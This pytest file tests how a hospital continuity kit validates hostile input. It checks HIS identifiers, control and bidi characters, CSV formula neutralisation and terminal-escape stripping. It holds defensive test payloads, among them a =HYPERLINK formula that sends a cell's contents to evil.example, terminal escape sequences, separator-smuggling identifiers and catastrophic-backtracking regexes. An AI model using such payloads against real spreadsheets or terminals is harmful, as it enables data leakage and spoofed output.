"""Hostile and broken input (issue 15): HIS identifiers checked where they enter, control
characters refused in what is typed or imported, formulas neutralised in the CSV the kit
writes, and what the HIS wrote stripped of control and bidi characters before it is shown."""

from __future__ import annotations

import csv
import json
import re
import stat
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest

from cli import main
from continuity.domain.delivery import FoundIdentifier
from continuity.domain.identity import Identity
from continuity.domain.outbox import IdentifierKind, IdentifierSource, MappingStatus
from continuity.errors import InvalidInput
from continuity.his_ids import check_his_id
from continuity.provisioning import parse_site
from continuity.services import crisis, delivery, patients, reconciliation, sync_state
from continuity.session import Session, Workspace
from continuity.text import csv_cell, for_display
from sync.merges import import_merges
from sync.snapshots import SnapshotRejected, parse_snapshot
from tests.conftest import ADMIN_PW, CRISIS, CRISIS_PW, SITE_TOML, identity
from tests.snapshot_files import csv_snapshot, fhir_bundle, his_patients, hl7_batch

HYPERLINK = '=HYPERLINK("http://evil.example/x?d="&A1,"Cliquez")'
HOSTILE_IDS = ["12\x1c34", "\x0b1234", "12\\F\\34", HYPERLINK, "+33123", "-1234", "@SUM(A1)", "12|34"]
NOW = datetime(2026, 11, 27, 8, 0, tzinfo=UTC)


# ------------------------------------------------------------------ HIS identifiers
@pytest.mark.parametrize("value", HOSTILE_IDS)
def test_a_hostile_his_identifier_is_refused_and_the_message_does_not_quote_it(value: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        check_his_id(IdentifierKind.IPP, value)
    text = caught.value.bilingual()
    assert "IPP" in text
    assert value not in text and "HYPERLINK" not in text


def test_his_identifiers_follow_the_declared_pattern() -> None:
    assert check_his_id(IdentifierKind.IPP, " 800123 ") == "800123"
    assert check_his_id(IdentifierKind.NDA, "N800123") == "N800123"
    with pytest.raises(InvalidInput):
        check_his_id(IdentifierKind.NDA, "n800123")  # default: digits and capitals
    with pytest.raises(InvalidInput):
        check_his_id(IdentifierKind.IPP, "1" * 21)
    assert check_his_id(IdentifierKind.IPP, "80-0123", r"\d{2}-\d{4}") == "80-0123"
    with pytest.raises(InvalidInput, match="format"):
        check_his_id(IdentifierKind.IPP, "N800123", r"\d{6,8}")
    # whatever the pattern a site declares, the separators and controls stay refused
    for value in HOSTILE_IDS:
        with pytest.raises(InvalidInput):
            check_his_id(IdentifierKind.IPP, value, r".{1,64}")
    assert check_his_id(IdentifierKind.FHIR_PATIENT, "pat-12.a") == "pat-12.a"


def test_the_site_file_declares_the_identifier_patterns() -> None:
    site = parse_site(SITE_TOML + '\n[his]\nipp_pattern = "\\\\d{6}"\nnda_pattern = "N\\\\d{6}"\n')
    assert site.his.ipp_pattern == r"\d{6}" and site.his.nda_pattern == r"N\d{6}"
    with pytest.raises(InvalidInput, match="IPP"):
        parse_site(SITE_TOML + '\n[his]\nipp_pattern = "(unclosed"\n')


SAFE_PATTERNS = [r"[0-9]{8,10}", r"[0-9A-Z]{1,20}", r"9[0-9]{9}", r"\d{6}", r"N\d{6}", r"\d{2}-\d{4}", r"\d+"]
SAFE_PATTERNS += [r".{1,64}", r"^[A-Z]{2}\d{6}$", r"[^|]{1,10}"]
UNSAFE_PATTERNS = [
    r"(a|a)*b",  # catastrophic backtracking: the reviewer's example
    r"(a+)+b",
    r"a|b",
    r"(\d{6})",
    r"(?:\d)+",
    r"(\d)\1",
    r"\d++",
    r"a{1,5}{2}",
    r"\d+\d+\d+\d+x",  # no group, yet a polynomial blow-up on 64 digits
    r"[0-9]{0,64}[0-9]{0,64}[0-9]{0,64}",
    r"\bx",
    r"a{2",
]


@pytest.mark.parametrize("pattern", SAFE_PATTERNS)
def test_a_typical_declared_pattern_is_accepted(pattern: str) -> None:
    from continuity.his_ids import check_pattern

    assert check_pattern(pattern) == pattern
    parse_site(SITE_TOML + f"\n[his]\nipp_pattern = '{pattern}'\n")


@pytest.mark.parametrize("pattern", UNSAFE_PATTERNS)
def test_a_pattern_that_could_hang_the_reader_is_refused(pattern: str) -> None:
    """Only a safe subset: literals, classes, bounded repetition of one of them."""
    from continuity.his_ids import check_pattern

    with pytest.raises(ValueError):
        check_pattern(pattern)
    with pytest.raises(InvalidInput, match="IPP") as caught:
        parse_site(SITE_TOML + f"\n[his]\nipp_pattern = '{pattern}'\n")
    assert "ni groupes" in caught.value.bilingual() and "no groups" in caught.value.bilingual()


def test_sync_config_refuses_a_pattern_that_could_hang_the_reader(workspace: Workspace) -> None:
    with workspace.unlock("admin", ADMIN_PW) as it:
        with pytest.raises(InvalidInput, match="groupe") as caught:
            sync_state.set_identifier_patterns(it, ipp=r"(a|a)*b", nda=None)
        assert "group" in caught.value.message_en
        assert sync_state.identifier_patterns(it) == (None, None)
    assert check_his_id(IdentifierKind.IPP, "1234567890", r"9?[0-9]{9,10}") == "1234567890"


def test_sync_map_refuses_a_formula_as_ipp(workspace: Workspace, nurse: Session) -> None:
    a = patients.admit(nurse, "CARDIO", identity=identity(birth_name="ALPHA")).patient
    base = ["--data", str(workspace.folder), "sync", "map", "--user", "crise"]
    import os

    os.environ["CONTINUITY_PASSWORD"] = CRISIS_PW
    try:
        assert main([*base, a.provisional_ipp, HYPERLINK]) == 2
        assert main([*base, a.provisional_ipp, "12\x1c34"]) == 2
    finally:
        del os.environ["CONTINUITY_PASSWORD"]
    with workspace.unlock(CRISIS.username, CRISIS_PW) as cell:
        assert reconciliation.mappings(cell) == []


def test_the_declared_pattern_applies_to_sync_map(workspace: Workspace, nurse: Session) -> None:
    a = patients.admit(nurse, "CARDIO", identity=identity(birth_name="ALPHA")).patient
    with workspace.unlock("admin", ADMIN_PW) as it:
        sync_state.set_identifier_patterns(it, ipp=r"\d{6}", nda=None)
        assert sync_state.identifier_patterns(it) == (r"\d{6}", None)
    with workspace.unlock(CRISIS.username, CRISIS_PW) as cell:
        with pytest.raises(InvalidInput, match="format"):
            reconciliation.enter(cell, a.provisional_ipp, "N12345")
        reconciliation.enter(cell, a.provisional_ipp, "123456")


def _merge_file(path: Path, provisional: str, ipp: str) -> Path:
    lines = [
        "MSH|^~\\&|DPI|CH|CONTINUITE|X|20261127080000||ADT^A40^ADT_A39|M1|P|2.5",
        "EVN||20261127080000",
        f"PID|||{ipp}^^^DPI^PI||NOM^PRENOM",
        f"MRG|{provisional}^^^CONTINUITE-TEST-CH^PI",
        "",
    ]
    path.write_text("\r".join(lines), encoding="utf-8")
    return path


@pytest.mark.parametrize("ipp", [HYPERLINK, "12\x1c34", "12\\F\\34"])
def test_an_a40_file_with_a_hostile_ipp_is_refused_whole(
    workspace: Workspace, nurse: Session, tmp_path: Path, ipp: str
) -> None:
    a = patients.admit(nurse, "CARDIO", identity=identity(birth_name="ALPHA")).patient
    path = _merge_file(tmp_path / "a40.hl7", a.provisional_ipp, ipp)
    with workspace.unlock("admin", ADMIN_PW) as it:
        with pytest.raises(InvalidInput, match="IPP"):
            import_merges(it, path)
        assert reconciliation.mappings(it) == []
        record = it.store.patients.get_patient(a.id)
        assert record is not None and record.ipp is None


def test_a_fhir_response_identifier_that_breaks_the_rules_is_not_recorded(
    workspace: Workspace, nurse: Session
) -> None:
    stay = patients.admit(nurse, "CARDIO", identity=identity(birth_name="ALPHA"))
    with workspace.unlock("admin", ADMIN_PW) as it:
        [event] = delivery.deliverable(it, 10)
        found = [
            FoundIdentifier(
                entity="patient",
                entity_id=stay.patient.id,
                kind=IdentifierKind.IPP,
                value=HYPERLINK,
                source=IdentifierSource.FHIR_RESPONSE,
            ),
            FoundIdentifier(
                entity="patient",
                entity_id=stay.patient.id,
                kind=IdentifierKind.FHIR_PATIENT,
                value="pat\x1b[2J1",
                source=IdentifierSource.FHIR_RESPONSE,
            ),
        ]
        delivery.acknowledge(it, [event.event_id], "fhir+https://dpi", found)
        assert reconciliation.mappings(it) == []  # refused, yet the event is acknowledged
        assert sync_state.backlog(it) == 0
        actions = [e.action for e in it.store.audit.audit_rows()]
        assert actions.count("mapping.refused") == 2


def _snapshot(ipp: str = "700001", nda: str = "N700001") -> list[object]:
    people = his_patients(2, {"CARDIO": ["1A", "1B"]}, NOW - timedelta(hours=1))
    from dataclasses import replace

    return [replace(people[0], ipp=ipp, nda=nda), people[1]]


SHORT_LINK = '=HYPERLINK("http://e.x")'


@pytest.mark.parametrize("ipp", ["12\x1c34", "12\x0b34", "12\x07", "\x1b[2J12", SHORT_LINK, "-1234"])
def test_a_csv_or_fhir_snapshot_with_a_hostile_identifier_is_refused(ipp: str) -> None:
    people = _snapshot(ipp="700001")
    csv_raw = csv_snapshot(people, NOW).replace(b"\n700001;", b"\n" + ipp.encode() + b";")  # type: ignore[arg-type]
    fhir_raw = fhir_bundle(people, NOW).replace(  # type: ignore[arg-type]
        b'"value": "700001"', b'"value": ' + json.dumps(ipp).encode()
    )
    assert json.dumps(ipp).encode() in fhir_raw
    files = [fhir_raw]
    if not any(c in ipp for c in "\x1c\x0b"):  # a CSV line ends there (str.splitlines)
        files.append(csv_raw)
    for raw in files:
        with pytest.raises(SnapshotRejected) as caught:
            parse_snapshot(raw, "x", NOW)
        text = caught.value.bilingual()
        assert "IPP" in text and ipp not in text


def test_an_hl7_snapshot_with_an_escaped_separator_in_an_identifier_is_refused() -> None:
    for people in (_snapshot(ipp="12\\F\\34"), _snapshot(nda="N1\\S\\2")):
        with pytest.raises(SnapshotRejected, match=r"(IPP|NDA)"):
            parse_snapshot(hl7_batch(people, NOW), "x.hl7", NOW)  # type: ignore[arg-type]


def test_a_snapshot_follows_the_declared_patterns() -> None:
    from continuity.domain.snapshot import HisIdentifiers

    people = _snapshot()
    raw = csv_snapshot(people, NOW)  # type: ignore[arg-type]
    assert len(parse_snapshot(raw, "x", NOW).patients) == 2
    with pytest.raises(SnapshotRejected, match="NDA"):
        parse_snapshot(raw, "x", NOW, HisIdentifiers(nda_pattern=r"\d+"))


# ------------------------------------------------------------------ identity and free text
@pytest.mark.parametrize("bad", ["DU\x1cPONT", "DU\x0bPONT", "DU\x00PONT", "DU\x7fPONT", "DU\x85PONT"])
def test_control_characters_in_a_name_are_refused_naming_the_field(bad: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        patients_identity({"birth_name": bad})
    [(fr, en)] = caught.value.detail_pairs
    assert "nom de naissance" in fr and "contrôle" in fr
    assert "birth name" in en and "control" in en


def test_bidi_controls_in_a_first_name_are_refused() -> None:
    with pytest.raises(InvalidInput, match="prénoms"):
        patients_identity({"first_names": ["JEAN\u202eNAEJ"]})


INVISIBLE = ["\u2028", "\u2029", "\u200b", "\u200c", "\u200d", "\u2060", "\u2061", "\u2064", "\ufeff"]


@pytest.mark.parametrize("char", INVISIBLE)
def test_invisible_characters_and_line_separators_in_a_name_are_refused(char: str) -> None:
    """Zero-width characters make two names that look alike differ (a second patient record,
    a search that finds nothing); U+2028/U+2029 break a line where none is allowed."""
    with pytest.raises(InvalidInput) as caught:
        patients_identity({"birth_name": f"DU{char}PONT"})
    [(fr, _)] = caught.value.detail_pairs
    assert f"U+{ord(char):04X}" in fr
    with pytest.raises(InvalidInput):
        patients_identity({"first_names": [f"JEAN{char}"]})


def test_legitimate_name_characters_are_kept() -> None:
    kept = patients_identity({"birth_name": "D'ARC-LEFÈVRE", "first_names": ["JOSÉ-MARÍA", "ŒDIPE"]})
    assert kept.birth_name == "D'ARC-LEFÈVRE" and kept.first_names == ["JOSÉ-MARÍA", "ŒDIPE"]
    assert patients_identity({"birth_name": "O\u2019NEIL"}).birth_name == "O'NEIL"  # made ASCII, kept


def test_for_display_strips_invisible_characters_and_line_separators() -> None:
    assert (
        for_display("Re\u200bjet\ufeff du\u2060 DPI\u2028ligne 2\u2029fin\u200d")
        == "Rejet du DPI ligne 2 fin"
    )


def test_tabs_and_line_breaks_in_a_name_are_spaces() -> None:
    assert patients_identity({"birth_name": "DU\tPONT\r\n"}).birth_name == "DU PONT"


def patients_identity(overrides: dict[str, object]) -> Identity:
    from continuity.validation import build

    data: dict[str, object] = {
        "birth_name": "DUPONT",
        "first_names": ["JEAN"],
        "birth_date": "1950-01-01",
        "sex": "M",
    }
    return build(Identity, {**data, **overrides}, "Identité", "Identity")


def test_free_text_refuses_controls_and_keeps_line_breaks_where_lines_are_allowed(
    crisis: Session, nurse: Session
) -> None:
    with pytest.raises(InvalidInput, match="contrôle"):
        crisis_log(crisis, "alerte \x1b]0;titre\x07")
    with pytest.raises(InvalidInput, match="contrôle"):
        crisis_log(crisis, "\u202eevitcaer")
    entry = crisis_log(crisis, "ligne 1\r\nligne 2\tsuite")
    assert entry == "ligne 1\nligne 2 suite"
    stay = patients.admit(nurse, "CARDIO", identity=identity(birth_name="ALPHA")).stay
    with pytest.raises(InvalidInput, match="contrôle"):
        patients.start_leave(nurse, stay.id, reason="permission \x1b[31m")
    with pytest.raises(InvalidInput, match="contrôle"):
        patients.admit(
            nurse,
            "CARDIO",
            identity=identity(birth_name="ALPHA"),
            not_a_duplicate="autre \x1c patient",
        )


def crisis_log(session: Session, text: str) -> str:
    crisis.add_log_entry(session, text)
    return crisis.log_entries(session)[0].text


# ------------------------------------------------------------------ CSV formulas
def test_csv_cells_are_neutralised() -> None:
    assert csv_cell(HYPERLINK) == "'" + HYPERLINK
    for text in ("+1", "-1+A1", "@SUM(A1)", "\tx", "\rx", "=1"):
        assert csv_cell(text) == "'" + text
    assert csv_cell("800123") == "800123" and csv_cell("N-1") == "N-1" and csv_cell("") == ""
    assert csv_cell(-3) == -3 and csv_cell(2.5) == 2.5  # numbers the kit writes stay numbers


def test_the_mapping_csv_neutralises_formulas_and_is_owner_only(
    workspace: Workspace, nurse: Session, tmp_path: Path
) -> None:
    a = patients.admit(nurse, "CARDIO", identity=identity(birth_name="ALPHA")).patient
    with workspace.unlock("admin", ADMIN_PW) as it, it.store.transaction():
        # as a store written by an earlier version may hold it
        it.store.his_ids.add_his_identifier(
            "patient",
            a.id,
            IdentifierKind.IPP,
            HYPERLINK,
            IdentifierSource.HL7_MERGE,
            MappingStatus.CONFIRMED,
            decided_by="his",
        )
    out = tmp_path / "mapping.csv"
    import os

    os.environ["CONTINUITY_PASSWORD"] = ADMIN_PW
    try:
        assert (
            main(["--data", str(workspace.folder), "sync", "mapping", "--user", "admin", "--csv", str(out)])
            == 0
        )
    finally:
        del os.environ["CONTINUITY_PASSWORD"]
    [row] = list(csv.DictReader(out.open(encoding="utf-8"), delimiter=";"))
    assert row["his_value"] == "'" + HYPERLINK
    assert stat.S_IMODE(out.stat().st_mode) == 0o600


def test_every_csv_writer_of_the_kit_goes_through_the_formula_guard() -> None:
    root = Path(__file__).resolve().parent.parent
    offenders = []
    for package in ("app", "cli", "continuity", "forms", "sync"):
        for path in (root / package).rglob("*.py"):
            if path.name == "text.py" and path.parent.name == "continuity":
                continue
            if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8")):
                offenders.append(str(path.relative_to(root)))
    assert offenders == []


# ------------------------------------------------------------------ display of HIS text
HIS_TEXT = (
    "Rejet\x1b]0;pwned\x07 \x1b[2J\x1b[31mrouge\x1b[0m \u202etxet\u202c\u200f\u2066x\u2069\x9b1m\x07 fin"
)


def test_for_display_strips_controls_and_bidi() -> None:
    shown = for_display(HIS_TEXT)
    assert shown == "Rejet rouge txetx fin"
    assert for_display("ligne 1\r\nligne 2\tsuite") == "ligne 1 ligne 2 suite"
    assert for_display("Identité incomplète — LŒUF") == "Identité incomplète — LŒUF"


def test_strip_controls_removes_exactly_what_is_control_names() -> None:
    """The HL7 escape's one regular expression agrees with ``is_control`` on every code point."""
    from continuity.text import is_control, strip_controls

    everything = "".join(chr(c) for c in range(0x110000) if not 0xD800 <= c <= 0xDFFF)
    assert strip_controls(everything) == "".join(c for c in everything if not is_control(c))


def _refused_with(workspace: Workspace, nurse: Session, reply: str) -> None:
    patients.admit(nurse, "CARDIO", identity=identity(birth_name="ALPHA"))
    with workspace.unlock("admin", ADMIN_PW) as it:
        [event] = delivery.deliverable(it, 10)
        delivery.mark_sent(it, [event.event_id])
        delivery.refuse(it, event.event_id, "Refusé par le DPI (AE) / Refused by the HIS (AE)", reply)


def test_sync_errors_shows_the_his_reply_without_controls(
    workspace: Workspace, nurse: Session, capsys: pytest.CaptureFixture[str]
) -> None:
    import os

    _refused_with(workspace, nurse, HIS_TEXT)
    os.environ["CONTINUITY_PASSWORD"] = ADMIN_PW
    try:
        assert main(["--data", str(workspace.folder), "sync", "errors", "--user", "admin"]) == 0
    finally:
        del os.environ["CONTINUITY_PASSWORD"]
    out = capsys.readouterr().out
    assert "DPI : Rejet rouge txetx fin" in out
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]", out)


def test_the_watcher_names_a_dropped_file_without_its_escape_sequences() -> None:
    from sync import inbox
    from sync.watch_service import describe

    result = inbox.FileResult(name="a\x1b]0;x\x07\u202egpj.csv", outcome=inbox.FileOutcome.GONE)
    assert describe(result) == "[instantané / snapshot] agpj.csv : gone"
